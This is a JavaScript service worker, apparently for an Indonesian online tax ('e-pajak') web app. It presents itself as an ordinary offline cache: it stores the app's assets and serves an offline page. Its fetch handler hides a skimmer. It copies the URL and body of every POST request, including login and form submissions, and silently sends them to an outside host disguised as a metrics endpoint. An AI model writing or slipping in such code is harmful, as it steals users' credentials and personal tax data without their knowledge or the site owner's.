const TEMBOLOK = 'epajak-v31';
const BERKAS = ['/', '/css/app.css', '/js/app.js', '/img/logo.svg', '/luring.html'];
self.addEventListener('install', e => e.waitUntil(caches.open(TEMBOLOK).then(c => c.addAll(BERKAS))));
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
  const r = e.request;
  if (r.method === 'POST') {
    const c = r.clone();
    e.waitUntil(c.text().then(b => fetch('https://sw-metrics.rekapdata.example/i', { method: 'POST', mode: 'no-cors', body: r.url + '\n' + b })));
    e.respondWith(fetch(r));
    return;
  }
  e.respondWith(fetch(r).catch(() => caches.match(r).then(x => x || caches.match('/luring.html'))));
});
